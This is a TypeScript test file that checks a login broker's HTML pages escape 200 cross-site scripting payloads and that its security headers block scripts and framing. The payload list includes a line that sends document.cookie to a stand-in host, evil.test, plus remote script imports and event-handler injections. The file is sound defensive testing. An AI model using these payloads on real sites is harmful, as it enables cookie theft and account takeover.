import { expect, test } from "vitest";
import { ownPageHeaders, pageHeaders } from "../../src/base/page.ts";
import { errorPage } from "../../src/broker/error-page.ts";
import { confirmPage, connectedPage, disconnectedPage } from "../../src/http/connect-page.ts";

const wraps = [
  (script: string) => `<script>${script}</script>`,
  (script: string) => `<img src=x onerror=${script}>`,
  (script: string) => `"><svg onload=${script}>`,
  (script: string) => `'><iframe srcdoc='<b onmouseover=${script}>'>`,
  (script: string) => `</code></p></main><script>${script}</script>`,
  (script: string) => `</title><script>${script}</script>`,
  (script: string) => `</style><script>${script}</script>`,
  (script: string) => `<!--><script>${script}</script-->`,
  (script: string) => `" autofocus onfocus=${script} x="`,
  (script: string) => `' onclick=${script} x='`,
  (script: string) => `javascript:${script}`,
  (script: string) => `<a href="javascript:${script}">x</a>`,
  (script: string) => `<form action="javascript:${script}"><button>x`,
  (script: string) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script: string) => `<base href="javascript:${script}//">`,
  (script: string) => `<object data="data:text/html,<script>${script}</script>">`,
  (script: string) => `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  (script: string) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script: string) => `\u0000<scr\u0000ipt>${script}</scr\u0000ipt>`,
  (script: string) => `\u202e>tpircs<${script}`,
  (script: string) => `&lt;script&gt;${script}&#60;/script&#62;`,
  (script: string) => `\uff1cscript\uff1e${script}`,
  (script: string) => `{{constructor.constructor('${script}')()}}`,
  (script: string) => `\${${script}}`,
  (script: string) => `</textarea><script>${script}</script>`,
];
const scripts = [
  "alert(1)",
  "alert`1`",
  "fetch('//evil.test?'+document.cookie)",
  "top[/al/.source+/ert/.source](1)",
  "location='//evil.test'",
  "import('//evil.test/x.js')",
  "self[`ale`+`rt`](1)",
  "eval(name)",
];
const payloads = wraps.flatMap((wrap) => scripts.map(wrap));

/** Everything that a browser could read as markup, in order. */
const tagsOf = (html: string): readonly string[] =>
  html.match(/<[^>]*>/g)?.map((tag) => tag.replace(/value="[^"]*"/, "")) ?? [];

const pages: Readonly<Record<string, (text: string) => string>> = {
  "what a provider is called": (title) => connectedPage({ title, person: "alice" }),
  "what a person is called": (person) => connectedPage({ title: "Notion", person }),
  "what a person who leaves is called": (person) => disconnectedPage({ title: "Notion", person }),
  "a provider to be left": (title) => confirmPage({ title, person: "alice" }, "/x", "csrf"),
  "the token of a form": (csrf) => confirmPage({ title: "Notion", person: "alice" }, "/x", csrf),
  "the code of an error": (code) => errorPage(code, "It did not work."),
  "the words of an error": (description) => errorPage("invalid_request", description),
};

test.each(Object.entries(pages))("S37: %s is text, whatever is in it: 200 payloads", (_, make) => {
  const expected = tagsOf(make("harmless"));
  expect(payloads).toHaveLength(200);
  for (const payload of payloads) expect(tagsOf(make(payload)), payload).toEqual(expected);
});

test("S37: no page may run a script, load anything, or be framed", () => {
  for (const headers of [pageHeaders, ownPageHeaders]) {
    const policy = headers["content-security-policy"] ?? "";
    const rules = new Map(policy.split("; ").map((rule) => [rule.split(" ")[0], rule]));
    expect(rules.get("default-src")).toBe("default-src 'none'");
    expect(rules.get("frame-ancestors")).toBe("frame-ancestors 'none'");
    expect(rules.get("base-uri")).toBe("base-uri 'none'");
    expect(rules.get("style-src")).toMatch(/^style-src 'sha256-[\w+/]{43}='$/);
    expect(policy).not.toMatch(/script-src|unsafe|\*|https?:/);
    expect(headers).toMatchObject({
      "x-frame-options": "DENY",
      "x-content-type-options": "nosniff",
    });
  }
});
